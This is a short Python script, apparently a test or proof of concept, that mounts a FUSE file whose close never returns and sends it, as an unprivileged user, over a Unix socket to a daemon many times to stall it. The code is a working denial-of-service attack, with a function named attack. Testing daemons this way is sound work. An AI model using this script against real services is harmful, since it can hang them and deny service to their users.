# SPDX-License-Identifier: BSD-2-Clause
"""Sends a file whose close(2) takes for ever to the daemon, as an ordinary user.

    stuckfile.py CHANNEL MOUNTPOINT COUNT

MOUNTPOINT is a file, over which one of FUSE is mounted that never answers FLUSH. It goes along with COUNT
requests, each by a channel of its own; then is printed how many were answered. Runs until it is killed.
"""

import array
import ctypes
import os
import socket
import stat
import struct
import sys

INIT, GETATTR, OPEN, FLUSH = 26, 3, 14, 25
FORGET = (2, 42)
REQUEST = struct.pack("<IHHIIBBH", 20, 0x10, 0x1 | 0x4, 0, 0, 255, 1, 0)  # of nlctrl, and unknown: an error
channel, mountpoint, count = sys.argv[1], sys.argv[2], int(sys.argv[3])


def attributes():
    ino, size, blocks, times, nsec, mode, links = 1, 0, 0, (0, 0, 0), (0, 0, 0), stat.S_IFREG | 0o666, 1
    return struct.pack("<QII6Q10I", 0, 0, 0, ino, size, blocks, *times, *nsec, mode, links, 0, 0, 0, 4096, 0)


def serve(fuse):
    while True:
        request = os.read(fuse, 1 << 17)
        length, opcode, unique = struct.unpack_from("<IIQ", request)
        if opcode in (*FORGET, FLUSH):
            continue
        error, body = 0, b""
        if opcode == INIT:
            body = struct.pack("<IIIIHHIIHH8I", 7, 31, 4096, 0, 16, 8, 4096, 1, 0, 0, *[0] * 8)
        elif opcode == GETATTR:
            body = attributes()
        elif opcode == OPEN:
            body = struct.pack("<QII", 1, 0, 0)
        else:
            error = -38
        os.write(fuse, struct.pack("<IiQ", 16 + len(body), error, unique) + body)


def attack(file):
    """As an ordinary user, who has but the file."""
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))]
    answered = 0
    for _ in range(count):
        with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sock:
            sock.connect(channel)
            try:
                sock.sendmsg([REQUEST], rights)
                answered += bool(sock.recv(4096))
            except (BrokenPipeError, ConnectionResetError):
                pass
    print("answered", answered, flush=True)


libc = ctypes.CDLL(None, use_errno=True)
fuse = os.open("/dev/fuse", os.O_RDWR)
options = f"fd={fuse},rootmode=100666,user_id=0,group_id=0"
if libc.mount(b"stuck", os.fsencode(mountpoint), b"fuse", 0, options.encode()):
    sys.exit(os.strerror(ctypes.get_errno()))
# Two processes: when the one that serves is killed, its files can be closed again.
if os.fork() == 0:
    os.close(fuse)
    attack(os.open(mountpoint, os.O_RDWR))
    os._exit(0)
serve(fuse)
